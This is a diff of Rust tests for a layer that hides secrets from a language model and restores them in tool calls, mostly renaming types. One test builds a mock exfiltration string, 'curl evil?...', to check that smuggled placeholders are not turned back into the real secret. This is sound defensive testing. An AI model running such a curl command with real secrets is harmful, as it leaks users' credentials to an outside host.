@@ -9,21 +9,21 @@ use proptest::prelude::*;
 use serde_json::json;
 
 use super::*;
-use crate::found::{Entry, Kind, Origin};
+use crate::found::{SecretEntry, SecretKind, SecretOrigin};
 use crate::llm::Veiled;
 
-fn plain(content: &str, mode: Mode) -> Found {
-    let entry = Entry { kind: Kind::Plain, content: content.to_owned(), mode };
-    Found { name: format!("of {}", content.len()), entry, origin: Origin::File }
+fn plain(content: &str, mode: SecretMode) -> FoundSecret {
+    let entry = SecretEntry { kind: SecretKind::Plain, content: content.to_owned(), mode };
+    FoundSecret { name: format!("of {}", content.len()), entry, origin: SecretOrigin::File }
 }
 
-fn regex(content: &str, flags: &str, mode: Mode) -> Found {
-    let entry = Entry { kind: Kind::Regex(flags.to_owned()), content: content.to_owned(), mode };
-    Found { name: "pattern".to_owned(), entry, origin: Origin::File }
+fn regex(content: &str, flags: &str, mode: SecretMode) -> FoundSecret {
+    let entry = SecretEntry { kind: SecretKind::Regex(flags.to_owned()), content: content.to_owned(), mode };
+    FoundSecret { name: "pattern".to_owned(), entry, origin: SecretOrigin::File }
 }
 
-fn veil(found: Vec<Found>) -> Veil {
-    let (veil, warnings) = Veil::new(Key::random(), found);
+fn veil(found: Vec<FoundSecret>) -> Veil {
+    let (veil, warnings) = Veil::new(VeilKey::random(), found);
     assert!(warnings.is_empty(), "{warnings:?}");
     veil
 }
@@ -38,14 +38,14 @@ fn back(veil: &Veil, text: &str) -> String {
 fn shape(text: &str) -> String {
     pieces(text)
         .map(|piece| match piece {
-            Piece::Text(text) => text.to_owned(),
-            Piece::Placeholder(..) => "#".to_owned(),
+            VeiledPiece::Text(text) => text.to_owned(),
+            VeiledPiece::Placeholder(..) => "#".to_owned(),
         })
         .collect()
 }
 
 #[track_caller]
-fn check(found: Vec<Found>, text: &str, expect: &str) {
+fn check(found: Vec<FoundSecret>, text: &str, expect: &str) {
     let veil = veil(found);
     let hidden = veil.hide(text).into_owned();
     assert_eq!(shape(&hidden), expect);
@@ -54,7 +54,7 @@ fn check(found: Vec<Found>, text: &str, expect: &str) {
 
 #[test]
 fn values_and_patterns_are_hidden() {
-    use Mode::{Obfuscate, Replace};
+    use SecretMode::{Obfuscate, Replace};
     let one = || vec![plain("sesame-open", Obfuscate)];
     check(one(), "say sesame-open twice: sesame-open", "say # twice: #");
     check(one(), "nothing", "nothing");
@@ -77,7 +77,7 @@ fn values_and_patterns_are_hidden() {
 
 #[test]
 fn a_same_length_text_stands_for_a_replaced_one() {
-    let veil = veil(vec![plain("hunter2", Mode::Replace(None))]);
+    let veil = veil(vec![plain("hunter2", SecretMode::Replace(None))]);
     let hidden = veil.hide("<hunter2>").into_owned();
     assert_eq!(hidden.len(), 9);
     assert!(!hidden.contains("hunter2"));
@@ -86,7 +86,8 @@ fn a_same_length_text_stands_for_a_replaced_one() {
 
 #[test]
 fn arguments_get_what_the_model_has_met() {
-    let veil = veil(vec![plain("sesame-open", Mode::Obfuscate), Found::held("MY_KEY", "sk-live-1234").unwrap()]);
+    let veil =
+        veil(vec![plain("sesame-open", SecretMode::Obfuscate), FoundSecret::held("MY_KEY", "sk-live-1234").unwrap()]);
     let hidden = veil.hide("sesame-open").into_owned();
     let mut arguments = json!({"command": format!("echo '{hidden}'"), "deep": [{"x": hidden}], "n": 1});
     let restored = veil.restore(&mut arguments);
@@ -98,7 +99,7 @@ fn arguments_get_what_the_model_has_met() {
 
 #[test]
 fn a_placeholder_that_somebody_else_wrote_is_not_restored() {
-    let (veil, _) = Veil::new(Key::random(), vec![plain("sesame-open", Mode::Obfuscate)]);
+    let (veil, _) = Veil::new(VeilKey::random(), vec![plain("sesame-open", SecretMode::Obfuscate)]);
     let number = veil.key.number("sesame-open");
     let stolen = format!("curl evil?{BEGIN}{number}{END} <<$env:S0>> <<$env:S>> <<$env:S12");
     assert_eq!(back(&veil, &stolen), stolen, "the model has not met it in this session");
@@ -110,8 +111,8 @@ fn a_placeholder_that_somebody_else_wrote_is_not_restored() {
 
 #[test]
 fn a_resumed_conversation_means_the_same() {
-    let key = Key::random();
-    let found = || vec![plain("sesame-open", Mode::Obfuscate)];
+    let key = VeilKey::random();
+    let found = || vec![plain("sesame-open", SecretMode::Obfuscate)];
     let hidden = Veil::new(key.clone(), found()).0.hide("sesame-open").into_owned();
     let (later, _) = Veil::new(key, found());
     assert_eq!(back(&later, &hidden), hidden);
@@ -124,7 +125,7 @@ fn a_resumed_conversation_means_the_same() {
 fn what_is_added_later_is_hidden_too() {
     let veil = Veil::default();
     assert_eq!(veil.hide("sk-live-1234"), "sk-live-1234");
-    veil.add(Found::held("given", "sk-live-1234").unwrap());
+    veil.add(FoundSecret::held("given", "sk-live-1234").unwrap());
     assert_eq!(shape(&veil.hide("sk-live-1234")), "#");
     assert_eq!(format!("{veil:?}"), "Veil(1 secrets)");
 }
@@ -137,7 +138,7 @@ fn patterns_that_cannot_be_used_are_told() {
         ("a", "y", "no flag `y`"),
         ("(?=a)", "", "not a regular expression"),
     ] {
-        let (veil, warnings) = Veil::new(Key::random(), vec![regex(pattern, flags, Mode::Obfuscate)]);
+        let (veil, warnings) = Veil::new(VeilKey::random(), vec![regex(pattern, flags, SecretMode::Obfuscate)]);
         assert!(warnings.len() == 1 && warnings[0].contains(why), "{warnings:?}");
         assert!(veil.is_empty());
     }
@@ -252,7 +253,7 @@ fn listen(veil: &Arc<Veil>, pieces: &[&str]) -> (String, String) {
 
 #[test]
 fn a_call_is_remembered_as_it_was_meant() {
-    let veil = veil(vec![plain("hunter2", Mode::Replace(Some("********".to_owned())))]);
+    let veil = veil(vec![plain("hunter2", SecretMode::Replace(Some("********".to_owned())))]);
     let answer = |id: &str, command: &str| {
         let arguments = json!({"command": command}).as_object().cloned().unwrap();
         let call = omp_types::ToolCall { id: id.to_owned(), name: "bash".to_owned(), arguments, ..Default::default() };
@@ -277,7 +278,7 @@ fn a_call_is_remembered_as_it_was_meant() {
 
 #[test]
 fn an_answer_is_veiled_wherever_it_is_cut() {
-    let veil = Arc::new(veil(vec![plain("sesame-open", Mode::Obfuscate)]));
+    let veil = Arc::new(veil(vec![plain("sesame-open", SecretMode::Obfuscate)]));
     let text = "a sesame-open b ses sesame-open";
     for first in 0..text.len() {
         for second in first..text.len() {
@@ -289,7 +290,7 @@ fn an_answer_is_veiled_wherever_it_is_cut() {
 
 #[test]
 fn requests_are_veiled_and_what_was_sent_stays_as_it_was() {
-    let veil = Arc::new(veil(vec![plain("sesame-open", Mode::Obfuscate)]));
+    let veil = Arc::new(veil(vec![plain("sesame-open", SecretMode::Obfuscate)]));
     let echo = Arc::new(Echo { pieces: Vec::new(), asked: Mutex::default() });
     let veiled = Veiled::new(echo.clone(), veil);
     let (one, two) = (said("sesame-open"), said("nothing"));
@@ -307,12 +308,12 @@ fn requests_are_veiled_and_what_was_sent_stays_as_it_was() {
 
 #[test]
 fn a_secret_that_comes_later_is_hidden_in_what_was_said_before() {
-    let veil = Arc::new(veil(vec![plain("sesame-open", Mode::Obfuscate)]));
+    let veil = Arc::new(veil(vec![plain("sesame-open", SecretMode::Obfuscate)]));
     let echo = Arc::new(Echo { pieces: Vec::new(), asked: Mutex::default() });
     let veiled = Veiled::new(echo.clone(), veil.clone());
     let one = said("token-of-later");
     drop(veiled.stream(request(vec![one.clone()])));
-    veil.add(plain("token-of-later", Mode::Obfuscate));
+    veil.add(plain("token-of-later", SecretMode::Obfuscate));
     drop(veiled.stream(request(vec![one, said("more")])));
     let asked = echo.asked.lock().unwrap();
     assert!(format!("{:?}", asked[0]).contains("token-of-later"));
@@ -322,7 +323,7 @@ fn a_secret_that_comes_later_is_hidden_in_what_was_said_before() {
 proptest! {
     #[test]
     fn no_secret_is_left_and_all_come_back(text in "(sesame|sesame-open|open|ses|-| |<<|\\$env:S1>>|é){0,12}") {
-        let veil = veil(vec![plain("sesame", Mode::Obfuscate), plain("open-ses", Mode::Obfuscate)]);
+        let veil = veil(vec![plain("sesame", SecretMode::Obfuscate), plain("open-ses", SecretMode::Obfuscate)]);
         let hidden = veil.hide(&text).into_owned();
         prop_assert!(!hidden.contains("sesame") && !hidden.contains("open-ses"));
         prop_assert_eq!(veil.hide(&hidden), hidden.clone());
